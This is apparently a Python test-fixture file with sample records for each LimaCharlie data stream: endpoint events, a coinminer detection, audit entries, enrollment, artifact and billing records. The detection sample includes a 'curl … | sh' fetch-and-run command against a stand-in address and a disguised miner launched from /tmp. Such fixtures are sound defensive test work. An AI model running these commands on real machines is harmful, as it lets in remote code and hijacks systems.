"""One realistic element of each stream of LimaCharlie, in the shapes its documentation shows.

All names, hosts and addresses are made up, or reserved for examples.
"""

from typing import Any

from hypothesis import strategies as st

ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: (
        st.lists(inner)
        | st.dictionaries(st.sampled_from(["routing", "event", "cat", "tags"]) | st.text(), inner)
    ),
    max_leaves=20,
)
"""What an element is not, but may be all the same."""

OID = "8cbe27f4-bfa1-4afb-ba19-138cd51389cd"
SID = "bb4b30af-ff11-4ff4-836f-f014ada33345"

EVENT: dict[str, Any] = {
    "routing": {
        "oid": OID,
        "sid": SID,
        "event_type": "NEW_PROCESS",
        "event_time": 1656959942437,
        "event_id": "8cec565d-14bd-4639-a1af-4fc8d5420b0c",
        "hostname": "workstation-01.corp.example",
        "iid": "7d23bee6-0000-4000-8000-c8e8cca132a1",
        "did": "b97e9d00-ca17-4afe-a9cf-27c3468d5901",
        "ext_ip": "203.0.113.45",
        "int_ip": "10.0.1.25",
        "plat": 268435456,
        "arch": 2,
        "moduleid": 2,
        "this": "a443f9c48bef700740ef27e062c333c6",
        "parent": "42217cb0326ca254999554a862c3298e",
        "investigation_id": "inv-2026-041/6fc1a0f2",
        "tags": ["production", "critical-assets"],
    },
    "event": {
        "FILE_PATH": "C:\\Windows\\System32\\cmd.exe",
        "COMMAND_LINE": "cmd.exe /c whoami",
        "PROCESS_ID": 4812,
        "USER_NAME": "CORP\\Administrator",
        "PARENT": {"FILE_PATH": "C:\\Windows\\explorer.exe", "PROCESS_ID": 2156},
    },
}

DNS_EVENT: dict[str, Any] = {
    "routing": {**EVENT["routing"], "event_type": "DNS_REQUEST", "tags": ["dev"], "hostname": "laptop-7"},
    "event": {"DOMAIN_NAME": "updates.example.org", "DNS_TYPE": 1, "IP_ADDRESS": "198.51.100.7"},
}

DETECTION: dict[str, Any] = {
    "author": "bob@soc.example",
    "cat": "00313-NIX-Execution_From_Tmp",
    "detect": {
        "event": {
            "BASE_ADDRESS": 94312077283328,
            "COMMAND_LINE": "/tmp/.x/kworker -o pool.example.net:4444 -u 44AFFq5kSiGB -p x --donate-level 1",
            "FILE_IS_SIGNED": 0,
            "FILE_PATH": "/tmp/.x/kworker",
            "HASH": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "PARENT": {
                "COMMAND_LINE": "sh -c curl -s http://198.51.100.42/i.sh | sh",
                "FILE_PATH": "/usr/bin/dash",
                "PARENT_PROCESS_ID": 812,
                "PROCESS_ID": 20411,
                "USER_NAME": "www-data",
            },
            "PROCESS_ID": 20417,
            "USER_NAME": "www-data",
        },
        "routing": {
            "arch": 2,
            "event_id": "0a6989a1-af71-4583-a8bc-e766bd2a81d8",
            "event_time": 1772630582315,
            "event_type": "NEW_PROCESS",
            "ext_ip": "203.0.113.80",
            "hostname": "web-1",
            "iid": "bfac2d1f-5d8c-4115-9df2-633a4f1d062b",
            "int_ip": "10.20.0.11",
            "moduleid": 2,
            "oid": OID,
            "plat": 536870912,
            "sid": "3109b3c7-c5ca-4029-b493-4d4e6766c4d3",
            "tags": ["linux", "dmz", "production"],
            "this": "76088a58bb99484c82cf9e9065fce1ea",
        },
        "ts": "2026-03-04 13:23:02",
    },
    "detect_data": {
        "file_hash": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "destination": "pool.example.net",
        "destination_port": 4444,
    },
    "detect_id": "90609b8b-c2b8-4537-b17e-5d1665fd8717",
    "detect_mtd": {
        "description": "A program was started from a folder for temporary files, by a service account.",
        "falsepositives": ["Installers that unpack themselves", "Build servers"],
        "level": "high",
        "tags": ["attack.execution", "attack.t1059.004"],
    },
    "gen_time": 1772630583120,
    "link": "https://app.limacharlie.io/orgs/8cbe27f4-bfa1-4afb-ba19-138cd51389cd/sensors/"
    "3109b3c7-c5ca-4029-b493-4d4e6766c4d3/timeline?time=1772630582&selected=76088a58bb99484c82cf9e9065fce1ea",
    "namespace": "general",
    "priority": 7,
    "routing": {
        "arch": 2,
        "event_id": "0a6989a1-af71-4583-a8bc-e766bd2a81d8",
        "event_time": 1772630582315,
        "event_type": "NEW_PROCESS",
        "ext_ip": "203.0.113.80",
        "hostname": "web-1",
        "iid": "bfac2d1f-5d8c-4115-9df2-633a4f1d062b",
        "int_ip": "10.20.0.11",
        "moduleid": 2,
        "oid": OID,
        "plat": 536870912,
        "sid": "3109b3c7-c5ca-4029-b493-4d4e6766c4d3",
        "tags": ["linux", "dmz", "production"],
        "this": "76088a58bb99484c82cf9e9065fce1ea",
    },
    "rule_tags": ["linux", "execution", "coinminer"],
    "source": "dr-general",
    "source_rule": "nix-execution-from-tmp",
}

AUDIT: dict[str, Any] = {
    "oid": OID,
    "ts": "2026-03-04T14:23:18Z",
    "etype": "config_change",
    "msg": "D&R rule deleted",
    "origin": "api",
    "time": 1772634198,
    "ident": "alice@corp.example",
    "entity": {"type": "dr_rule", "name": "detect-encoded-powershell", "hive": "dr-general"},
    "mtd": {"action": "delete", "source_ip": "203.0.113.10", "user_agent": "limacharlie-cli/2.0.0"},
}

AUDIT_ERROR: dict[str, Any] = {
    "oid": OID,
    "ts": "2026-03-04T15:00:01Z",
    "etype": "error",
    "msg": "output disabled",
    "origin": "system",
    "time": 1772636401,
    "ident": "",
    "entity": {"type": "output", "name": "splunk-events", "stream": "event"},
    "component": "outputs/splunk-events",
    "error": "dial tcp 203.0.113.9:8088: connection refused",
}

DEPLOYMENT: dict[str, Any] = {
    "routing": {
        "oid": OID,
        "iid": "ca812425-5a36-4c73-a0a0-935a8ace6451",
        "sid": "a75cc927-bf28-4178-a42d-25ecc8a6be81",
        "plat": 536870912,
        "arch": 2,
        "ext_ip": "203.0.113.101",
        "int_ip": "172.17.0.2",
        "hostname": "linux-server-1",
        "event_type": "sensor_over_quota",
        "event_time": 1772630582230,
    },
    "event": {"public_ip": "203.0.113.101", "internal_ip": "172.17.0.2", "host_name": "linux-server-1"},
}

ENROLLMENT: dict[str, Any] = {
    "routing": {
        "oid": OID,
        "iid": "ca812425-5a36-4c73-a0a0-935a8ace6451",
        "sid": "a75cc927-bf28-4178-a42d-25ecc8a6be81",
        "plat": 536870912,
        "arch": 2,
        "event_type": "enrollment",
        "event_time": 1772630582230,
    },
    "event": {"public_ip": "203.0.113.101", "internal_ip": "172.17.0.2", "host_name": "linux-server-2"},
}

ARTIFACT: dict[str, Any] = {
    "routing": {
        "log_id": "ca812425-5a36-4c73-a0a0-935a8ace6451",
        "event_type": "ingest",
        "log_type": "pcap",
        "oid": OID,
        "event_time": 1772630582230,
    },
    "event": {
        "size": 2048,
        "source": "a75cc927-bf28-4178-a42d-25ecc8a6be81",
        "original_path": "/data/pcap/dat.pcap",
        "original_md5": "5d41402abc4b2a76b9719d911017c592",
    },
}

BILLING: dict[str, Any] = {
    "record": {
        "cat": "extension",
        "k": "ext-strelka:bytes_scanned",
        "oid": OID,
        "record_id": "3bbbe4d9-925b-4538-bcad-e2e1ba2be923-0",
        "ts": "2026-03-04 00:44:37",
        "v": 2797,
    }
}

BY_STREAM: dict[str, dict[str, Any]] = {
    "event": EVENT,
    "detect": DETECTION,
    "audit": AUDIT,
    "deployment": DEPLOYMENT,
    "artifact": ARTIFACT,
    "tailored": DNS_EVENT,
    "billing": BILLING,
}
